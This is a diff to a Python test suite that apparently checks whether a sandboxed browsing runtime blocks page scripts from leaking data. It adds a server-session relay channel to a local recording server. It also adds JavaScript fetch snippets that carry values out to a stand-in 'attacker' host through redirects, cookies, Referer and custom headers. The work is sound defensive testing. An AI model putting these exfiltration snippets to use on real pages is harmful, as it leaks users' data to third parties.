@@ -28,19 +28,29 @@ __all__ = ["loopback_websockets"]  # the fixture, used here too
 
 def _copying(server: RecordingServer, to: str) -> None:
     """Make ``server`` answer ``/hop`` with a redirect to ``to`` followed by its ``d`` cookie, ``/hdr`` with one
-    followed by the request's ``X-Data`` header, and record each request's Referer and ``X-Data`` with it."""
+    followed by the request's ``X-Data`` header, ``/keep`` with one followed by what the last ``POST /save`` sent
+    (the server's session), and record each request's Referer and ``X-Data`` with it."""
     base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass  # type: ignore[assignment]
+    session: dict[str, str] = {}
 
     class Copying(base):  # type: ignore[valid-type,misc]
         def _serve(self) -> None:
             path = urlsplit(self.path).path
-            if path not in ("/hop", "/hdr"):
+            if path == "/save":
+                length = int(self.headers.get("content-length") or 0)
+                session["d"] = self.rfile.read(length).decode(errors="replace")
+                server.requests.append(f"POST /save {session['d']}")
+                self.send_response(204)
+                self.end_headers()
+                return
+            if path not in ("/hop", "/hdr", "/keep"):
                 server.requests.append(f"REFERER {self.headers.get('referer', '')} {self.headers.get('x-data', '')}")
                 super()._serve()  # type: ignore[misc]
                 return
             server.requests.append(f"{self.command} {self.path} ")
             cookies = dict(c.strip().split("=", 1) for c in (self.headers.get("cookie") or "").split(";") if "=" in c)
-            data = unquote(cookies.get("d", "")) if path == "/hop" else self.headers.get("x-data", "")
+            data = {"/hop": unquote(cookies.get("d", "")), "/hdr": self.headers.get("x-data", ""),
+                    "/keep": session.get("d", "")}[path]
             self.send_response(302)
             self.send_header("location", to + data)
             self.send_header("content-length", "0")
@@ -61,6 +71,9 @@ def _sends(attacker: str) -> dict[str, str]:
             "referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}))"),
         "a header of a same-origin fetch its server copies into a redirect": (
             "(v.length > 20 && fetch('/hdr', {headers: {'X-Data': v}}).catch(() => {}))"),
+        "what an earlier request left in its server's session, copied into a redirect": (
+            "(v.length > 20 && fetch('/save', {method: 'POST', body: v}).then(() => fetch('/keep'))"
+            ".catch(() => {}))"),
         "a header of a request to another host": (
             f"(v.length > 20 && fetch('{attacker}/in', {{headers: {{'X-Data': v}}}}).catch(() => {{}}))"),
     }
@@ -102,10 +115,12 @@ async def test_ordinary_cookies_referers_and_headers_still_go_through(tmp_path: 
             f"fetch('/hop').catch(() => {{}}), fetch('{attacker.url}/pixel.gif', {{referrer: '/x?d=' + "
             "v.slice(-3), referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}), "
             "fetch('/hdr', {headers: {'X-Data': v.slice(-3), 'X-Requested-With': 'XMLHttpRequest'}})"
+            ".catch(() => {}), fetch('/save', {method: 'POST', body: v.slice(-3)}).then(() => fetch('/keep'))"
             ".catch(() => {})))")
         status, events = await _run(tmp_path, site, "tomatoes and basil grow well together")
         await asyncio.sleep(1)
     assert status == RunStatus.FINISHED
     assert not _refused(events)
     got = _got(attacker)
-    assert got.count("tom") == 3 and len(got) > 80, (got, attacker.requests)  # each way, all or nearly all pieces
+    redirected = [r for r in attacker.requests if r.startswith("GET /r?d=")]  # by /hop, /hdr and /keep
+    assert got.count("tom") >= 3 and len(redirected) >= 30, (got, attacker.requests)  # (nearly) every piece
